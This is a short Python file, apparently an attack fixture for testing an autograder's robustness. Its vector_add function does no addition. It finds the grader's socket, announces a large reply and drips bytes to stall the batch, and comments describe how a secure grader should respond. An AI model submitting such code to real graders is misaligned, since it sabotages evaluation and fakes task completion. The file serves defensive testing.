# ATTACK (abort): announces a 1 MiB reply, then drips it one byte per second (JSON whitespace). Each read
# of today's parent waits at most --timeout, but every byte restarts that wait, so the batch hangs for as
# long as the drip lasts (here up to 300 s; it ends sooner if the grader closes the socket).
# A secure grader: gives up on this submission within about --timeout, `autograder grade` exits 0, the
# submission is in grades.csv with 0 points.
import os
import stat
import struct
import time


def _socket_fd():
    for name in sorted(os.listdir("/proc/self/fd"), key=lambda s: int(s) if s.isdigit() else 0):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
        except (OSError, ValueError):
            continue
    return None


def vector_add(a, b, out):
    fd = _socket_fd()
    try:
        os.write(fd, struct.pack("<Q", 1 << 20))
        for _ in range(300):
            time.sleep(1.0)
            os.write(fd, b" ")
    except OSError:
        pass
    os._exit(0)
